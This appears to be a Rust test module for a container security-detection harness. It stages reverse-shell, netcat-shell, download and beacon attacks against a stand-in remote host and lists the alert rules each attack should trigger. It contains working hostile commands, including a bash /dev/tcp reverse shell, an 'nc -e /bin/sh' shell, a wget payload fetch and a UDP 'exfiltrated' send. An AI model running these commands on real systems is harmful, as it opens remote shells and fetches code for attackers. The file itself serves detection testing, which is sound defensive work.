//! Attacks that talk to a second machine, which is a network namespace of the harness.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};

use super::{Scenario, as_it_is};
use crate::container::{Container, Exec};
use crate::images::Image;
use crate::netns::{REMOTE, RemoteHost};
use crate::offenders;

const LIMIT: Duration = Duration::from_secs(15);

/// The attacks.
pub(super) const ATTACKS: &[Scenario] = &[
    Scenario {
        name: "reverse-shell",
        title: "a shell reads its commands from a public address (bash and /dev/tcp)",
        image: Image::Debian,
        expected: &[
            "Reverse shell command line",
            "Shell with its streams on a network socket",
            "Shell connects to the network",
        ],
        tolerated: &[
            "Interactive root shell in a container",
            "Outbound connection to a suspicious port",
            "Program with its streams on a network socket",
            "Root shell spawned by a workload",
        ],
        prepare: as_it_is,
        run: |container| Box::pin(reverse_shell(container)),
    },
    Scenario {
        name: "netcat-shell",
        title: "netcat hands a shell to whoever listens (nc -e)",
        image: Image::Busybox,
        expected: &[
            "Reverse shell command line",
            "Shell with its streams on a network socket",
        ],
        tolerated: &[
            "Interactive root shell in a container",
            "Network tool connects out of a container",
            "Outbound connection to a suspicious port",
            "Program with its streams on a network socket",
            "Root shell spawned by a workload",
        ],
        prepare: as_it_is,
        run: |container| Box::pin(netcat_shell(container)),
    },
    Scenario {
        name: "download",
        title: "a tool is fetched from a public address",
        image: Image::Busybox,
        expected: &["Network tool connects out of a container"],
        tolerated: &["Outbound connection to a suspicious port"],
        prepare: as_it_is,
        run: |container| Box::pin(download(container)),
    },
    Scenario {
        name: "beacon",
        title: "a program connects to a port that malware likes",
        image: Image::Debian,
        expected: &["Outbound connection to a suspicious port"],
        tolerated: &["Network tool connects out of a container"],
        prepare: as_it_is,
        run: |container| Box::pin(beacon(container)),
    },
];

/// Another kind of traffic, sent without a connection: the suites use it, no rule asks for it.
pub async fn send_datagram(container: &Container) -> Result<()> {
    let remote = RemoteHost::new()?;
    let socket = remote.udp(5353)?;
    socket.set_read_timeout(Some(LIMIT))?;
    remote.attach(container).await?;
    let program = offenders::in_image("connect_udp");
    let output = container
        .exec(&[&program, &format!("{REMOTE}:5353")])
        .await?;
    ensure!(output.code == 0, "{output:?}");
    let mut received = [0; 64];
    let (length, _) = socket.recv_from(&mut received)?;
    ensure!(&received[..length] == b"exfiltrated");
    Ok(())
}

async fn reverse_shell(container: &Container) -> Result<()> {
    let script = format!("bash -i >& /dev/tcp/{REMOTE}/4444 0>&1");
    command_a_shell(container, 4444, &["bash", "-c", &script]).await
}

async fn netcat_shell(container: &Container) -> Result<()> {
    let address = REMOTE.to_string();
    command_a_shell(container, 4445, &["nc", &address, "4445", "-e", "/bin/sh"]).await
}

/// Plays the attacker's side: waits for the shell, gives it a command and reads the answer.
async fn command_a_shell(container: &Container, port: u16, command: &[&str]) -> Result<()> {
    let remote = RemoteHost::new()?;
    let listener = remote.listen(port)?;
    remote.attach(container).await?;
    let attacker = tokio::task::spawn_blocking(move || converse(&listener, "id; exit\n", "uid=0"));
    Exec::new(command).start(container).await?;
    attacker.await?
}

async fn download(container: &Container) -> Result<()> {
    let remote = RemoteHost::new()?;
    let listener = remote.listen(80)?;
    remote.attach(container).await?;
    let answer = "HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\ntool\n";
    let server = tokio::task::spawn_blocking(move || converse(&listener, answer, "GET /tool"));
    let url = format!("http://{REMOTE}/tool");
    let output = container.exec(&["wget", "-O", "/tmp/tool", &url]).await?;
    ensure!(output.code == 0, "{output:?}");
    server.await?
}

async fn beacon(container: &Container) -> Result<()> {
    let remote = RemoteHost::new()?;
    let listener = remote.listen(6667)?;
    remote.attach(container).await?;
    let server = tokio::task::spawn_blocking(move || converse(&listener, "ok\n", "NICK"));
    let script = format!(
        "import socket; s = socket.create_connection(('{REMOTE}', 6667)); \
         s.sendall(b'NICK bot\\n'); s.recv(9)"
    );
    let output = container.exec(&["python3", "-c", &script]).await?;
    ensure!(output.code == 0, "{output:?}");
    server.await?
}

/// Accepts one connection, sends a text and reads until the awaited one has come.
fn converse(listener: &TcpListener, send: &str, awaited: &str) -> Result<()> {
    listener.set_nonblocking(true)?;
    let deadline = Instant::now() + LIMIT;
    let mut stream = loop {
        match listener.accept() {
            Ok((stream, _)) => break stream,
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {
                ensure!(Instant::now() < deadline, "nobody connected");
                std::thread::sleep(Duration::from_millis(10));
            }
            Err(error) => return Err(error.into()),
        }
    };
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(LIMIT))?;
    stream.write_all(send.as_bytes())?;
    let mut received = String::new();
    let mut chunk = [0; 1024];
    while !received.contains(awaited) {
        let length = stream
            .read(&mut chunk)
            .with_context(|| format!("{awaited:?} did not come; got {received:?}"))?;
        if length == 0 {
            bail!("the connection ended without {awaited:?}: {received:?}");
        }
        received.push_str(&String::from_utf8_lossy(&chunk[..length]));
    }
    Ok(())
}
